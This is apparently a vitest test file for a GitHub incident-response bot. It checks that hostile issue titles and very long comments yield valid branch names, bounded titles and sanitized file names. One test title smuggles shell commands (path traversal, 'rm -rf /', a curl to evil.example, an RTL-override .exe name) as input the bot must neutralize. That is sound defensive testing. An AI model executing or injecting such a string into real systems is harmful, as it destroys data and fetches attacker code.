// What strangers can write, at the running app: titles, comments and settings that want to be more than text.
import { execFileSync } from 'node:child_process'
import { expect, test } from 'vitest'
import { sized } from '../promises/size.ts'
import { row, stories, timeline } from '../stories/story.ts'

/** A whole incident each: the suite takes those that hold most. */
const TITLES = [
  'T'.repeat(256),
  '../../x; rm -rf / && $(curl evil.example) `id` \u202egnp.exe',
  ...sized({ suite: [], soak: ['日本語 の 🔥 only', '-.lock', '@everyone'] }),
]

stories(
  'hostile titles',
  (story) => {
    test.each(TITLES)('%s', async (title) => {
      await story.declares(title, 'sev:P1')
      const id = story.id()
      const asked = await story.says('ada', '/hotfix')
      expect(story.reactions(asked)).toEqual(['eyes', 'rocket'])
      const pull = story.titled(`Hotfix: ${id} - `)
      expect(pull.title.length).toBeLessThanOrEqual(256)
      const branch = pull.pull?.head.branch ?? ''
      expect(branch).toBe(`hotfix/incident-${id}`)
      execFileSync('git', ['check-ref-format', `refs/heads/${branch}`])
      const repository = story.sandbox.repository()
      const files = [...(repository.commits.get(pull.pull?.head.sha ?? '')?.files.keys() ?? [])]
      const before = [...(repository.commits.get(repository.branches.get('main') ?? '')?.files.keys() ?? [])]
      const added = files.filter((path) => !before.includes(path))
      expect(added).toEqual([
        expect.stringMatching(/^docs\/incidents\/incident-\d{4}-\d\d-\d\d-[a-z0-9-]{1,50}(-\d+)?\.md$/),
      ])
      await story.says('ada', '/resolve')
      const review = story.titled(`Post-incident review: ${id} `)
      expect(review.title.length).toBeLessThanOrEqual(256)
      expect(row(story.living(), 'Status')).toMatch(/^resolved/)
    })
  },
  { settings: 'board: none' },
)

stories('long comments', (story) => {
  const LONGEST = 65_536
  const repeated = (line: string): string => line.repeat(Math.floor(LONGEST / line.length))

  test('one note of 65,536 characters stands in the timeline, and everything stays within GitHub’s limit', async () => {
    await story.declares('Long')
    const note = await story.says('ada', `/note ${'x'.repeat(LONGEST - 6)}`)
    expect(story.reactions(note)).toEqual(['eyes', 'rocket'])
    await story.says('ada', '/note short and later')
    expect(timeline(story.living()).at(-1)).toBe('short and later')
    for (const { body } of story.issue().comments) expect(body.length).toBeLessThanOrEqual(LONGEST)
  })

  test.each([
    ['slashes', repeated('/')],
    ['quotes', repeated('> /resolve\n')],
    ['open fences', repeated('```js\n/resolve\n')],
    ['backticks', repeated('`')],
    ['open comments', repeated('<!--')],
    ['mentions', repeated('@ada ')],
  ])('%s, as many as fit, are text', async (_what, text) => {
    await story.declares('Text')
    const replies = story.replies().length
    const comment = await story.says('ada', text)
    expect(story.reactions(comment)).toEqual([])
    expect(story.replies()).toHaveLength(replies)
    expect(row(story.living(), 'Status')).toMatch(/^investigating/)
  })

  test.each([
    ['near misses', repeated('/ak\n')],
    ['unknown verbs of ours', repeated('/incident nonsense\n')],
    ['wrong severities', repeated('/sev high\n')],
    ['wrong entries', repeated('/hide 99999\n')],
  ])('%s, as many as fit, get one reply that GitHub takes', async (_what, text) => {
    await story.declares('Refused', 'sev:P2')
    const comment = await story.says('ada', text)
    expect(story.reactions(comment)).toContain('confused')
    expect(story.replies()).toHaveLength(1)
    expect(story.replies()[0]?.length).toBeLessThan(LONGEST / 2)
  })

  test('half a character and a NUL, which no database takes, become a replacement', async () => {
    await story.declares('Half \ud83d of \u0000 it')
    const note = await story.says('ada', '/note half \ud83d of \u0000 it, and C:\\u0000 \u{1f525} whole')
    expect(story.reactions(note)).toEqual(['eyes', 'rocket'])
    expect(timeline(story.living()).at(-1)).toMatch(
      /^half \ufffd of \ufffd it, and C:\\+u0000 \u{1f525} whole$/u,
    )
  })

  test('a hundred commands in one comment all take effect', async () => {
    await story.declares('Many')
    const notes = Array.from({ length: 100 }, (_, index) => `/note number ${index}`).join('\n')
    const comment = await story.says('ada', notes)
    expect(story.reactions(comment)).toEqual(['eyes', 'rocket'])
    expect(timeline(story.living()).at(-1)).toBe('number 99')
  })
})
